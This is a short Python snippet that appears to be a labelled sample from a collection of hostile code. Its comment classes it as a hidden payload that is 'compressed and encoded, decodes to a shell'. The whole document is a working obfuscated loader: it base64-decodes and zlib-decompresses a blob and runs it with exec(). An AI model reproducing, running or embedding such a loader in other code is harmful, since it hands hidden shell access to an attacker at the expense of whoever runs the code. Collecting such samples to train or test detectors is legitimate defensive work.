# class: hidden payload; style: compressed and encoded, decodes to a shell
import base64, zlib
exec(zlib.decompress(base64.b64decode(b"eJwljbsOwjAMAPd8RbbYUuQ2PCQ69EsQQykpWIAdxUGIv6dSbznddPwuWps3nZ+5RbVY2s/ZuDVtAnRGs4rkuQGENJzomCj1PaUhxMMKojur0e1TdmC08CuLAkZGv2j17Fl8neSeYY8Xtx7IyvQVCN2VpbNHQPcHwlEqSA==")))
